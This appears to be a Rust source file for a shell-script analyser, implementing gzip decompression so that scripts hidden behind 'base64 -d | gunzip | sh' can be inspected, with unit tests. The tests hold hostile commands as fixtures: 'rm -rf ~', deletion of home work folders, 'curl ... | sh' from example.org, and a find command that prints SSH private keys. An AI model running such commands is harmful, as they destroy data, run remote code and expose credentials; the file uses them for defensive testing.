//! `gunzip` on what is known, because `base64 -d | gunzip | sh` is how scripts are hidden; and `gzip` as its inverse.
//!
//! RFC 1951 and 1952 without their checksums: what is broken gives nothing, and so does what is longer
//! than anybody would look at. `gzip` stores without compressing, which every reader undoes alike.

/// More than this is not unpacked.
const MOST: usize = 64 * 1024;

/// `gzip [-c]`, `gzip -d`, `gunzip`, `zcat`.
pub(super) fn gzip(name: &str, words: &[&[u8]], input: &[u8]) -> Option<Vec<u8>> {
    let letters = words.iter().map(|word| word.strip_prefix(b"-")).collect::<Option<Vec<_>>>()?;
    let letters = letters.concat();
    if !letters.iter().all(|letter| b"cdfknq123456789".contains(letter)) {
        return None;
    }
    let unpacks = name != "gzip" || letters.contains(&b'd');
    if unpacks { unpack(input) } else { pack(input) }
}

fn pack(input: &[u8]) -> Option<Vec<u8>> {
    let mut out = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3];
    let length = u16::try_from(input.len()).ok()?;
    out.push(1);
    out.extend(length.to_le_bytes());
    out.extend((!length).to_le_bytes());
    out.extend(input);
    out.extend([0; 4]);
    out.extend(u32::from(length).to_le_bytes());
    Some(out)
}

fn unpack(input: &[u8]) -> Option<Vec<u8>> {
    let (header, mut rest) = input.split_at_checked(10)?;
    let [0x1f, 0x8b, 8, flags, ..] = header else { return None };
    if flags & 4 != 0 {
        let (length, after) = rest.split_at_checked(2)?;
        rest = after.get(usize::from(u16::from_le_bytes(length.try_into().ok()?))..)?;
    }
    for flag in [8, 16] {
        if flags & flag != 0 {
            let end = rest.iter().position(|c| *c == 0)?;
            rest = rest.get(end + 1..)?;
        }
    }
    if flags & 2 != 0 {
        rest = rest.get(2..)?;
    }
    Bits { bytes: rest, at: 0, out: Vec::new() }.inflate()
}

/// The bits of a stream, and what came out of them.
struct Bits<'a> {
    bytes: &'a [u8],
    at: usize,
    out: Vec<u8>,
}

/// A code: how many symbols there are of each length, and the symbols in order.
struct Code {
    counts: [usize; 16],
    symbols: Vec<usize>,
}

impl Code {
    fn of(lengths: &[usize]) -> Self {
        let mut counts = [0; 16];
        for length in lengths {
            counts[length & 15] += 1;
        }
        counts[0] = 0;
        let mut symbols: Vec<usize> = (0..lengths.len()).filter(|n| lengths[*n] > 0).collect();
        symbols.sort_by_key(|n| (lengths[*n], *n));
        Self { counts, symbols }
    }
}

const LENGTHS: [usize; 29] = [
    3, 4, 5, 6, 7, 8, 9, 10, 11, 13, 15, 17, 19, 23, 27, 31, 35, 43, 51, 59, 67, 83, 99, 115, 131,
    163, 195, 227, 258,
];
const DISTANCES: [usize; 30] = [
    1, 2, 3, 4, 5, 7, 9, 13, 17, 25, 33, 49, 65, 97, 129, 193, 257, 385, 513, 769, 1025, 1537,
    2049, 3073, 4097, 6145, 8193, 12289, 16385, 24577,
];
const ORDER: [usize; 19] = [16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1, 15];

impl Bits<'_> {
    fn inflate(mut self) -> Option<Vec<u8>> {
        loop {
            let last = self.take(1)? == 1;
            match self.take(2)? {
                0 => self.stored()?,
                1 => {
                    let mut lengths = [8; 288];
                    lengths[144..256].fill(9);
                    lengths[256..280].fill(7);
                    self.coded(&Code::of(&lengths), &Code::of(&[5; 30]))?;
                }
                2 => {
                    let (literals, distances) = self.codes()?;
                    self.coded(&literals, &distances)?;
                }
                _ => return None,
            }
            if last {
                return Some(self.out);
            }
        }
    }

    fn take(&mut self, count: usize) -> Option<usize> {
        let mut value = 0;
        for nth in 0..count {
            let byte = usize::from(*self.bytes.get(self.at / 8)?);
            value |= ((byte >> (self.at % 8)) & 1) << nth;
            self.at += 1;
        }
        Some(value)
    }

    fn stored(&mut self) -> Option<()> {
        self.at = self.at.next_multiple_of(8);
        let length = self.take(16)?;
        self.take(16)?;
        let from = self.at / 8;
        self.out.extend(self.bytes.get(from..from + length)?);
        self.at += length * 8;
        (self.out.len() <= MOST).then_some(())
    }

    fn codes(&mut self) -> Option<(Code, Code)> {
        let (literals, distances) = (self.take(5)? + 257, self.take(5)? + 1);
        let count = self.take(4)? + 4;
        let mut lengths = [0; 19];
        for place in ORDER.iter().take(count) {
            lengths[*place] = self.take(3)?;
        }
        let code = Code::of(&lengths);
        let mut all = Vec::new();
        while all.len() < literals + distances {
            let (length, times) = match self.symbol(&code)? {
                16 => (*all.last()?, 3 + self.take(2)?),
                17 => (0, 3 + self.take(3)?),
                18 => (0, 11 + self.take(7)?),
                length => (length, 1),
            };
            all.extend(std::iter::repeat_n(length, times));
        }
        let (left, right) = all.split_at_checked(literals)?;
        Some((Code::of(left), Code::of(right)))
    }

    fn symbol(&mut self, code: &Code) -> Option<usize> {
        let (mut value, mut first, mut index) = (0_usize, 0_usize, 0_usize);
        for count in code.counts.iter().skip(1) {
            value |= self.take(1)?;
            if value < first + count {
                return code.symbols.get(index + value.checked_sub(first)?).copied();
            }
            index += count;
            first = (first + count) << 1;
            value <<= 1;
        }
        None
    }

    fn coded(&mut self, literals: &Code, distances: &Code) -> Option<()> {
        while self.out.len() <= MOST {
            match self.symbol(literals)? {
                byte @ 0..=255 => self.out.push(u8::try_from(byte).ok()?),
                256 => return Some(()),
                symbol => {
                    let nth = symbol - 257;
                    let extra = if (8..28).contains(&nth) { nth / 4 - 1 } else { 0 };
                    let length = LENGTHS.get(nth)? + self.take(extra)?;
                    let nth = self.symbol(distances)?;
                    let extra = if nth > 3 { nth / 2 - 1 } else { 0 };
                    let back = DISTANCES.get(nth)? + self.take(extra)?;
                    let from = self.out.len().checked_sub(back)?;
                    for at in from..from + length {
                        self.out.push(*self.out.get(at)?);
                    }
                }
            }
        }
        None
    }
}

#[cfg(test)]
mod tests {
    use super::gzip;

    #[test]
    fn what_gzip_packs_is_unpacked() {
        // `printf 'rm -rf ~\n%.0s' 1 2 3 4 5 6 7 8 | gzip -9n`, and `printf 'rm -rf ~\n' | gzip -n`
        let (repeated, once) = (REPEATED, ONCE);
        let text = "rm -rf ~\n";
        assert_eq!(gzip("gunzip", &[], repeated).unwrap(), text.repeat(8).as_bytes());
        assert_eq!(gzip("gzip", &[b"-dc"], once).unwrap(), text.as_bytes());
        assert_eq!(gzip("zcat", &[], DYNAMIC).unwrap(), LONG.as_bytes());
        let packed = gzip("gzip", &[b"-c"], b"x").unwrap();
        assert_eq!(gzip("gzip", &[b"-d"], &packed).unwrap(), b"x");
        for end in 0..DYNAMIC.len() - 8 {
            assert_eq!(gzip("gunzip", &[], &DYNAMIC[..end]), None, "{end}");
        }
        assert_eq!(gzip("gunzip", &[], b"not packed"), None);
    }

    const LONG: &str = "for d in src tests docs build target notes; do rm -rf \"$HOME/work/$d\" && echo gone; done; curl -s https://example.org/x.sh | sh; find / -name id_rsa -exec cat {} +; echo nothing else was here, zebra quick jumps";
    const REPEATED: &[u8] = &[
        31, 139, 8, 0, 0, 0, 0, 0, 2, 3, 43, 202, 85, 208, 45, 74, 83, 168, 227, 42, 162, 140, 1,
        0, 122, 196, 126, 111, 72, 0, 0, 0,
    ];
    const ONCE: &[u8] = &[
        31, 139, 8, 0, 0, 0, 0, 0, 2, 3, 43, 202, 85, 208, 45, 74, 83, 168, 227, 2, 0, 21, 133, 70,
        243, 9, 0, 0, 0,
    ];
    const DYNAMIC: &[u8] = &[
        31, 139, 8, 0, 0, 0, 0, 0, 2, 3, 37, 142, 203, 14, 130, 48, 16, 69, 127, 229, 134, 16, 54,
        10, 221, 203, 218, 196, 141, 241, 19, 76, 105, 7, 90, 129, 22, 103, 74, 32, 62, 254, 93,
        136, 155, 187, 57, 55, 39, 167, 141, 12, 11, 31, 32, 108, 144, 72, 146, 192, 70, 35, 104,
        102, 63, 88, 36, 205, 29, 37, 132, 184, 145, 122, 3, 224, 17, 37, 183, 200, 242, 203, 237,
        122, 86, 75, 228, 94, 229, 54, 67, 81, 128, 140, 139, 232, 98, 160, 253, 183, 175, 153,
        121, 64, 41, 112, 41, 77, 114, 82, 138, 86, 61, 78, 3, 85, 145, 59, 181, 86, 226, 240, 129,
        184, 26, 173, 15, 22, 10, 101, 208, 35, 193, 219, 59, 139, 70, 73, 43, 25, 24, 157, 240,
        254, 226, 80, 255, 221, 91, 132, 243, 161, 3, 13, 66, 88, 244, 38, 38, 166, 35, 94, 212,
        176, 198, 115, 246, 166, 199, 99, 30, 39, 249, 1, 213, 234, 205, 141, 210, 0, 0, 0,
    ];
}
